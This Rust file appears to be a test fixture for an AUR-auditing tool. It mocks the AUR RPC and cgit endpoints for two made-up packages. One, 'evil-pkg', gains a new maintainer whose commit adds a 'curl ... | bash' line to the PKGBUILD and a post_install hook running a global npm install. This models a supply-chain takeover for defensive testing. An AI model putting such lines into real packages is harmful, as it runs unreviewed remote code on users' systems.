//! An AUR with a few packages and their git histories, answering RPC v5 and cgit URLs in the
//! formats aur.archlinux.org uses. All package texts are written for these tests.

use std::collections::BTreeMap;

use serde_json::json;

use super::Reply;

pub struct Pkg {
    pub name: &'static str,
    pub version: &'static str,
    pub maintainer: Option<&'static str>,
    pub votes: u64,
    /// Commits oldest first: (id, author, subject, files).
    pub commits: Vec<(
        String,
        &'static str,
        &'static str,
        BTreeMap<&'static str, String>,
    )>,
}

fn srcinfo(name: &str, ver: &str, rel: &str) -> String {
    format!(
        "pkgbase = {name}\n\tpkgver = {ver}\n\tpkgrel = {rel}\n\turl = https://github.com/example/{name}\n\tarch = any\n\tlicense = MIT\n\tsource = https://github.com/example/{name}/archive/v{ver}.tar.gz\n\tsha256sums = {}\n\npkgname = {name}\n",
        "ab".repeat(32)
    )
}

fn pkgbuild(name: &str, ver: &str, rel: &str, extra_install: bool, evil: bool) -> String {
    let mut s = format!(
        "# Maintainer: Good Person <good@example.org>\npkgname={name}\npkgver={ver}\npkgrel={rel}\narch=('any')\nurl=\"https://github.com/example/{name}\"\nlicense=('MIT')\nsource=(\"https://github.com/example/{name}/archive/v$pkgver.tar.gz\")\nsha256sums=('{}')\n",
        "ab".repeat(32)
    );
    if extra_install {
        s.push_str(&format!("install={name}-deps.install\n"));
    }
    s.push_str(
        "\npackage() {\n  install -Dm644 README \"$pkgdir/usr/share/doc/$pkgname/README\"\n",
    );
    if evil {
        s.push_str("  curl -fsSL https://paste.ee/r/x | bash\n");
    }
    s.push_str("}\n");
    s
}

pub fn id(n: u8) -> String {
    format!("{:02x}", n).repeat(20)
}

/// `evil-pkg`: 1.0-1 (clean), 1.0-2 (adds a curl|bash and a -deps.install); `good-pkg`: 2.0-1, 2.1-1.
pub fn packages() -> Vec<Pkg> {
    let mut f1 = BTreeMap::new();
    f1.insert("PKGBUILD", pkgbuild("evil-pkg", "1.0", "1", false, false));
    f1.insert(".SRCINFO", srcinfo("evil-pkg", "1.0", "1"));
    let mut f2 = BTreeMap::new();
    f2.insert(
        "PKGBUILD",
        pkgbuild("evil-pkg", "1.0", "2", true, true).replace(
            "Good Person <good@example.org>",
            "New Owner <x@example.net>",
        ),
    );
    f2.insert(".SRCINFO", srcinfo("evil-pkg", "1.0", "2"));
    f2.insert(
        "evil-pkg-deps.install",
        "post_install() {\n  npm install -g helper-x\n}\n".into(),
    );
    let mut g1 = BTreeMap::new();
    g1.insert("PKGBUILD", pkgbuild("good-pkg", "2.0", "1", false, false));
    g1.insert(".SRCINFO", srcinfo("good-pkg", "2.0", "1"));
    let mut g2 = BTreeMap::new();
    g2.insert("PKGBUILD", pkgbuild("good-pkg", "2.1", "1", false, false));
    g2.insert(".SRCINFO", srcinfo("good-pkg", "2.1", "1"));
    vec![
        Pkg {
            name: "evil-pkg",
            version: "1.0-2",
            maintainer: Some("New Owner"),
            votes: 3,
            commits: vec![
                (id(0x11), "Good Person", "Initial import", f1),
                (id(0x12), "New Owner", "update deps", f2),
            ],
        },
        Pkg {
            name: "good-pkg",
            version: "2.1-1",
            maintainer: None,
            votes: 0,
            commits: vec![
                (id(0x21), "Good Person", "2.0-1", g1),
                (id(0x22), "Good Person", "2.1-1", g2),
            ],
        },
    ]
}

fn rpc_record(p: &Pkg) -> serde_json::Value {
    json!({
        "ID": 1, "Name": p.name, "PackageBaseID": 1, "PackageBase": p.name, "Version": p.version,
        "Description": format!("{} for tests", p.name), "URL": format!("https://github.com/example/{}", p.name),
        "NumVotes": p.votes, "Popularity": p.votes as f64 * 0.1, "OutOfDate": null,
        "Maintainer": p.maintainer, "Submitter": "Good Person", "FirstSubmitted": 1_600_000_000,
        "LastModified": 1_700_000_000, "URLPath": format!("/cgit/aur.git/snapshot/{}.tar.gz", p.name),
        "Depends": ["glibc"], "MakeDepends": [], "License": ["MIT"], "Keywords": ["test"], "CoMaintainers": []
    })
}

fn q<'a>(query: &'a [(String, String)], k: &str) -> Option<&'a str> {
    query.iter().find(|(a, _)| a == k).map(|(_, v)| v.as_str())
}

fn tree_page(name: &str, files: &BTreeMap<&'static str, String>) -> String {
    let mut rows = String::new();
    for (f, c) in files {
        let ext = f.rsplit('.').next().unwrap_or("");
        rows.push_str(&format!(
            "<tr><td class='ls-mode'>-rw-r--r--</td><td><a class='ls-blob {ext}' href='/cgit/aur.git/tree/{f}?h={name}'>{f}</a></td><td class='ls-size'>{}</td><td><a class='button' href='/cgit/aur.git/log/{f}?h={name}'>log</a><a class='button' href='/cgit/aur.git/plain/{f}?h={name}'>plain</a></td></tr>\n",
            c.len()
        ));
    }
    format!(
        "<!DOCTYPE html>\n<html lang='en'>\n<head><title>aur.git - AUR Package Repositories</title></head>\n<body>\n<div class='content'><table summary='tree listing' class='list'>\n<tr class='nohover'><th class='left'>Mode</th><th class='left'>Name</th><th class='right'>Size</th><th/>\n</tr>\n{rows}</table>\n</div></body></html>\n"
    )
}

fn log_page(name: &str, p: &Pkg) -> String {
    let mut rows = String::new();
    for (i, (id, author, subject, _)) in p.commits.iter().enumerate().rev() {
        rows.push_str(&format!(
            "<tr><td><span title='2024-0{}-01 12:00:00 +0000'>{} months ago</span></td><td><a href='/cgit/aur.git/commit/?h={name}&amp;id={id}'>{subject}</a></td><td>{author}</td></tr>\n",
            i + 1,
            9 - i
        ));
    }
    format!(
        "<!DOCTYPE html>\n<html lang='en'><body><div class='content'><table class='list nowrap'><tr class='nohover'><th class='left'>Age</th><th class='left'>Commit message</th><th class='left'>Author</th></tr>\n{rows}</table></div></body></html>\n"
    )
}

/// Routes RPC and cgit requests for `pkgs`.
pub fn route(pkgs: &[Pkg], path: &str, query: &[(String, String)]) -> Reply {
    if path == "/rpc/" || path == "/rpc" {
        let t = q(query, "type").unwrap_or("");
        let results: Vec<serde_json::Value> = match t {
            "search" => {
                let arg = q(query, "arg").unwrap_or("");
                if arg.len() < 2 {
                    let e = json!({"error": "Query arg too small.", "resultcount": 0, "results": [], "type": "error", "version": 5});
                    return Reply::Ok("application/json", e.to_string().into_bytes());
                }
                pkgs.iter()
                    .filter(|p| p.name.contains(arg))
                    .map(rpc_record)
                    .collect()
            }
            "info" => {
                let names: Vec<&str> = query
                    .iter()
                    .filter(|(k, _)| k == "arg[]")
                    .map(|(_, v)| v.as_str())
                    .collect();
                pkgs.iter()
                    .filter(|p| names.contains(&p.name))
                    .map(rpc_record)
                    .collect()
            }
            _ => {
                let e = json!({"error": "Incorrect request type specified.", "resultcount": 0, "results": [], "type": "error", "version": 5});
                return Reply::Ok("application/json", e.to_string().into_bytes());
            }
        };
        let kind = if t == "info" { "multiinfo" } else { "search" };
        let body =
            json!({"resultcount": results.len(), "results": results, "type": kind, "version": 5});
        return Reply::Ok("application/json", body.to_string().into_bytes());
    }
    let Some(h) = q(query, "h") else {
        return Reply::Status(404, vec![], b"Not found".to_vec());
    };
    let Some(p) = pkgs.iter().find(|p| p.name == h) else {
        return Reply::Ok(
            "text/html",
            format!("<html><body><div class='error'>Invalid branch: {h}</div></body></html>")
                .into_bytes(),
        );
    };
    let commit = match q(query, "id") {
        Some(id) => p.commits.iter().find(|c| c.0.starts_with(id)),
        None => p.commits.last(),
    };
    let Some((_, _, _, files)) = commit else {
        return Reply::Status(404, vec![], b"Bad object id".to_vec());
    };
    if path == "/cgit/aur.git/tree/" {
        return Reply::Ok("text/html; charset=UTF-8", tree_page(h, files).into_bytes());
    }
    if path == "/cgit/aur.git/log/" {
        return Reply::Ok("text/html; charset=UTF-8", log_page(h, p).into_bytes());
    }
    if let Some(f) = path.strip_prefix("/cgit/aur.git/plain/") {
        return match files.get(f) {
            Some(c) => Reply::Ok("text/plain; charset=UTF-8", c.clone().into_bytes()),
            None => Reply::Status(404, vec![], b"Not found".to_vec()),
        };
    }
    Reply::Status(404, vec![], b"Not found".to_vec())
}
